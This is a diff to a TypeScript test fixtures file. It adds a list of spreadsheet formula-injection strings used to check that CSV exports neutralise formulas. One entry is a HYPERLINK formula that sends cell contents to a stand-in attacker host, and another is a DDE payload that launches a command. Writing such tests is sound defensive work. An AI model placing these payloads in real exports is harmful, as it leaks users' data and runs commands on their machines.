@@ -2,6 +2,20 @@
 // strings, injection attempts, truncated JSON, CSV with wrong columns).
 import fc from 'fast-check';
 
+/**
+ * Text a spreadsheet would run as a formula (or DDE) if a CSV export wrote it as it is: every
+ * text cell of every export gets each of them in the export tests.
+ */
+export const FORMULA_STRINGS = [
+  '=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
+  '=1+1',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1;2)',
+  '\t=1+1',
+  '\r=1+1',
+];
+
 /** Strings that have broken parsers, queries or templates somewhere. */
 export const NASTY_STRINGS = [
   '',
@@ -36,6 +50,7 @@ export const NASTY_STRINGS = [
   '${7*7}',
   '{{7*7}}',
   '=HYPERLINK("http://x")',
+  ...FORMULA_STRINGS,
   '\uD800',
   '\uDFFF\uD800',
   '\u202Eevil',
